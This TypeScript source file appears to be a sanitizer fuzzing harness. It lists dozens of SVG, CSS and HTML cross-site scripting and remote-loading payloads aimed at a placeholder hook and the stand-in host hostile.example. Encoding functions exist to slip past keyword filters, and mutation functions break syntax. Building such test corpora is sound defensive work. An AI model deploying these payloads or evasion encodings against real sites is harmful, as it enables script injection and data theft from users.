import type { Chance } from './chance.ts'

/** Whatever a file manages to run calls this. */
export const HOOK = 'hostileCall'
/** Whatever a file manages to load comes from here. */
const ELSEWHERE = 'https://hostile.example'
const SCRIPT = `javascript:${HOOK}()`
const DRAWING = `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${HOOK}()'/%3E`

export const SVG_VECTORS: readonly string[] = [
  `<script>${HOOK}()</script>`,
  `<script href="${ELSEWHERE}/a.js"/>`,
  `<script xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="data:text/javascript,${HOOK}()"/>`,
  `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${HOOK}()</h:script>`,
  `<g onload="${HOOK}()"/>`,
  `<rect width="9" height="9" onclick="${HOOK}()" onmouseover="${HOOK}()" onfocus="${HOOK}()" tabindex="0" autofocus=""/>`,
  `<a href="${SCRIPT}"><rect width="9" height="9"/></a>`,
  `<a xlink:href="java&#10;script:${HOOK}()"><text>x</text></a>`,
  `<animate attributeName="href" values="${SCRIPT}" onbegin="${HOOK}()"/>`,
  `<set attributeName="onmouseover" to="${HOOK}()" onbegin="${HOOK}()"/>`,
  `<animateTransform attributeName="transform" onend="${HOOK}()" dur="1ms"/>`,
  `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.${HOOK}()&lt;/script&gt;"/></foreignObject>`,
  `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${HOOK}()"/></foreignObject>`,
  `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${HOOK}()"/></foreignObject>`,
  `<image href="${ELSEWHERE}/a.png" width="9" height="9"/>`,
  `<image href="${DRAWING}" width="9" height="9"/>`,
  `<image href="x" onerror="${HOOK}()"/>`,
  `<use href="${ELSEWHERE}/a.svg#b"/>`,
  `<use href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIvPg==#a"/>`,
  `<feImage href="${ELSEWHERE}/a.png"/>`,
  `<filter id="f"><feImage xlink:href="${ELSEWHERE}/a.png"/></filter>`,
  `<rect width="9" height="9" fill="url(${ELSEWHERE}/a#b)" filter="url('${ELSEWHERE}/a#b')"/>`,
  `<rect width="9" height="9" mask="image-set('${ELSEWHERE}/a.png' 1x)" cursor="url(${ELSEWHERE}/c.cur)"/>`,
  `<rect width="9" height="9" style="background:url(${ELSEWHERE}/a.png);fill:u\\72l(${ELSEWHERE}/b)"/>`,
  `<style>@import url(${ELSEWHERE}/a.css);</style>`,
  `<style>@import "${ELSEWHERE}/a.css" screen;rect{fill:url(${ELSEWHERE}/a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${ELSEWHERE}/a.woff2)}text{font-family:x}</style><text>x</text>`,
  `<style><![CDATA[*{background:url("${ELSEWHERE}/a.png")}]]></style>`,
  `<style>rect{fill:ur<!-- -->l(${ELSEWHERE}/a)}</style>`,
  `<style>&lt;/style&gt;&lt;script&gt;${HOOK}()&lt;/script&gt;</style>`,
  `<?xml-stylesheet href="${ELSEWHERE}/a.css"?>`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cx/%3E"?>`,
  `<g xml:base="${ELSEWHERE}/"><image href="a.png" width="9" height="9"/></g>`,
  `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${HOOK}()</handler>`,
  `<iframe xmlns="http://www.w3.org/1999/xhtml" src="${SCRIPT}"/>`,
  `<video xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}/a.mp4" autoplay=""/>`,
  `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${ELSEWHERE}/a.css"/>`,
  `<text font-family="x&quot; onload=&quot;${HOOK}()">x</text>`,
  `<title>&lt;img src=x onerror=${HOOK}()&gt;</title>`,
  `<desc><![CDATA[</desc><script>${HOOK}()</script>]]></desc>`,
]

export const CSS_VECTORS: readonly string[] = [
  `@import url(${ELSEWHERE}/a.css);`,
  `@import "${ELSEWHERE}/a.css" layer(x) supports(display:grid) screen;`,
  `@import '//hostile.example/a.css';`,
  `@\\69 mport "${ELSEWHERE}/a.css";`,
  `@charset "utf-7";@import "${ELSEWHERE}/a.css";`,
  `@namespace x url(${ELSEWHERE});`,
  `@font-face{font-family:x;src:url(${ELSEWHERE}/a.woff2) format("woff2")}*{font-family:x}`,
  `*{background:url(${ELSEWHERE}/a.png)}`,
  `*{background:url("${ELSEWHERE}/a.png")}`,
  `*{background:url('//hostile.example/a.png')}`,
  `*{background:url(\\68ttps://hostile.example/a.png)}`,
  `*{background:u\\72l(${ELSEWHERE}/a.png)}`,
  `*{background:\\75 rl("${ELSEWHERE}/a.png")}`,
  `*{background:url(\n${ELSEWHERE}/a.png\n)}`,
  `*{background:url(/**/${ELSEWHERE}/a.png)}`,
  `*{background-image:image-set("${ELSEWHERE}/a.png" 1x)}`,
  `*{background-image:-webkit-image-set(url(${ELSEWHERE}/a.png) 1x)}`,
  `*{--x:"${ELSEWHERE}/a.png";background-image:image-set(var(--x) 1x)}`,
  `*{--x:url(${ELSEWHERE}/a.png);background:var(--x)}`,
  `@property --x{syntax:"<image>";inherits:false;initial-value:url(${ELSEWHERE}/a.png)}*{background:var(--x)}`,
  `*{background:image("${ELSEWHERE}/a.png")}`,
  `*{background:src("${ELSEWHERE}/a.png")}`,
  `*{background:-webkit-cross-fade(url(${ELSEWHERE}/a.png),url(${ELSEWHERE}/b.png),50%)}`,
  `*{cursor:url(${ELSEWHERE}/a.cur),auto}`,
  `li{list-style:url(${ELSEWHERE}/a.png)}`,
  `*{content:url(${ELSEWHERE}/a.png)}`,
  `*{border-image:url(${ELSEWHERE}/a.png) 30}`,
  `*{mask:url(${ELSEWHERE}/a.svg#m);filter:url(${ELSEWHERE}/a.svg#f);clip-path:url(${ELSEWHERE}/a.svg#c)}`,
  `*{shape-outside:url(${ELSEWHERE}/a.png);offset-path:url(${ELSEWHERE}/a.svg#p)}`,
  `*{behavior:url(${ELSEWHERE}/a.htc)}`,
  `*{-moz-binding:url(${ELSEWHERE}/a.xml#b)}`,
  `*{width:expression(${HOOK}())}`,
  `*{width:exp/**/ression(${HOOK}())}`,
  `*{background:url(${SCRIPT})}`,
  `*{background:url("${DRAWING}")}`,
  `input[value^="a"]{background:url(${ELSEWHERE}/?a)}`,
  `</style><script>${HOOK}()</script><style>`,
  `a{content:"</style><img src=x onerror=${HOOK}()>"}`,
  `<!--</style><script>${HOOK}()</script>-->`,
  `.x{color:red}/*</style><script>${HOOK}()</script>`,
  `@keyframes k{from{background:url(${ELSEWHERE}/a.png)}}*{animation:k 1s}`,
  `@page{background:url(${ELSEWHERE}/a.png)}`,
  `@container style(--x:url(${ELSEWHERE}/a.png)){*{color:red}}`,
  `@media{*{background:url(${ELSEWHERE}/a.png)`,
  `*{background:url(${ELSEWHERE}/a.png`,
  `*{background:url("${ELSEWHERE}/a.png`,
]

export const HTML_VECTORS: readonly string[] = [
  `<script>${HOOK}()</script>`,
  `<script src="${ELSEWHERE}/a.js"></script>`,
  `<scr<script>ipt>${HOOK}()</scr</script>ipt>`,
  `<img src=x onerror=${HOOK}()>`,
  `<img/src="x"/onerror="${HOOK}()">`,
  `<img src="${ELSEWHERE}/a.png">`,
  `<img src="/img/a.png" srcset="${ELSEWHERE}/a.png 2x">`,
  `<img src="/img/a.png" srcset="/img/b.png 1x,${ELSEWHERE}/a.png 2x">`,
  `<img src="//hostile.example/a.png">`,
  `<img src="\\\\hostile.example/a.png">`,
  `<picture><source srcset="${ELSEWHERE}/a.png"><img src="/img/a.png"></picture>`,
  `<svg onload=${HOOK}()>`,
  `<svg><animate onbegin=${HOOK}() attributeName=x dur=1s>`,
  `<svg><style>@import url(${ELSEWHERE}/a.css)</style></svg>`,
  `<svg><a xlink:href="${SCRIPT}"><text>x</text></a></svg>`,
  `<math href="${SCRIPT}"><mtext>x</mtext></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HOOK}()&gt;">`,
  `<iframe src="${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HOOK}()</script>"></iframe>`,
  `<object data="${SCRIPT}"></object>`,
  `<embed src="${ELSEWHERE}/a.swf">`,
  `<a href="${SCRIPT}">x</a>`,
  `<a href="java&#x09;script:${HOOK}()">x</a>`,
  `<a href="&#1;javascript:${HOOK}()">x</a>`,
  `<a href="data:text/html,<script>${HOOK}()</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<form action="${SCRIPT}"><button formaction="${SCRIPT}">x</button></form>`,
  `<input autofocus onfocus=${HOOK}()>`,
  `<details open ontoggle=${HOOK}()>x</details>`,
  `<video src="${ELSEWHERE}/a.mp4" onerror=${HOOK}()><source onerror=${HOOK}()></video>`,
  `<audio src=x onerror=${HOOK}()>`,
  `<link rel=stylesheet href="${ELSEWHERE}/a.css">`,
  `<link rel=preload as=script href="${ELSEWHERE}/a.js">`,
  `<meta http-equiv=refresh content="0;url=${SCRIPT}">`,
  `<base href="${ELSEWHERE}/">`,
  `<body onload=${HOOK}()>`,
  `<div style="background:url(${ELSEWHERE}/a.png)">x</div>`,
  `<div style="animation-name:x" onanimationstart=${HOOK}()>x</div>`,
  `<style>*{background:url(${ELSEWHERE}/a.png)}</style>`,
  `<table background="${ELSEWHERE}/a.png"><td background="${ELSEWHERE}/b.png">x</table>`,
  `<marquee onstart=${HOOK}()>x</marquee>`,
  `<template shadowrootmode=open><script>${HOOK}()</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HOOK}()>">`,
  `<textarea><script>${HOOK}()</script></textarea>`,
  `<xmp><img src=x onerror=${HOOK}()></xmp>`,
  `<select><style></select><script>${HOOK}()</script></style>`,
  `<p title="><img src=x onerror=${HOOK}()>">x</p>`,
  `<!--><img src=x onerror=${HOOK}()>-->`,
  `<![CDATA[><img src=x onerror=${HOOK}()>]]>`,
  `<?xml ><img src=x onerror=${HOOK}()>?>`,
]

type Spelling = (vector: string) => string

const asIs: Spelling = (vector) => vector
const mixed: Spelling = (vector) =>
  vector.replace(/<\/?[a-z]+|\bon[a-z]+=|url|import|javascript/gi, (word) =>
    [...word].map((sign, at) => (at % 2 === 0 ? sign.toUpperCase() : sign.toLowerCase())).join(''),
  )

export const casings: readonly Spelling[] = [asIs, asIs, mixed, (vector) => vector.replace(/url|import/gi, 'URL')]

const references = (vector: string, write: (code: number) => string) =>
  vector.replace(/javascript|https|url/g, (word) => [...word].map((sign) => write(sign.charCodeAt(0))).join(''))

const decimal: Spelling = (vector) => references(vector, (code) => `&#${code};`)
const hexadecimal: Spelling = (vector) => references(vector, (code) => `&#x${code.toString(16)};`)
const unfinished: Spelling = (vector) => references(vector, (code) => `&#0000${code}`)
const escaped: Spelling = (vector) => references(vector, (code) => `\\${code.toString(16)} `)
const padded: Spelling = (vector) => references(vector, (code) => `\\${code.toString(16).padStart(6, '0')}`)
const tabbed: Spelling = (vector) => vector.replace(/javascript/g, 'java\tscript').replace(/=/g, ' =\n')
const percent: Spelling = (vector) => vector.replace(/hostile\.example/g, 'hostile%2eexample')
const wide: Spelling = (vector) => vector.replace(/url\(/g, 'ｕｒｌ(').replace(/<script/g, '＜script')

/** Ways of writing the same thing so that a list of words does not know it again. */
export const encodings: Readonly<Record<'svg' | 'css' | 'html', readonly Spelling[]>> = {
  svg: [asIs, asIs, decimal, hexadecimal, escaped, tabbed, percent, wide],
  css: [asIs, asIs, escaped, padded, percent, wide],
  html: [asIs, asIs, decimal, hexadecimal, unfinished, tabbed, percent, wide],
}

type Wound = (vector: string, chance: Chance) => string

/** Syntax that is broken somewhere: readers recover, each in its own way. */
export const wounds: readonly Wound[] = [
  (vector, chance) => vector.slice(0, chance.below(vector.length)),
  (vector, chance) => vector.slice(chance.below(vector.length)),
  (vector) => vector.replace('>', ''),
  (vector) => vector.replace(/"/, ''),
  (vector) => vector.replace(/\)/, ''),
  (vector, chance) => insert(vector, { at: chance.below(vector.length), what: '\0' }),
  (vector, chance) => insert(vector, { at: chance.below(vector.length), what: chance.one(SIGNS) }),
  (vector) => `${vector}${vector.toUpperCase()}`,
]

const SIGNS = [
  '<',
  '>',
  '"',
  "'",
  '/*',
  '*/',
  '<!--',
  '-->',
  ']]>',
  '&',
  ';',
  '}',
  '{',
  '\\',
  '\u2028',
  '\ufeff',
  '%00',
]

function insert(vector: string, { at, what }: { at: number; what: string }): string {
  return vector.slice(0, at) + what + vector.slice(at)
}
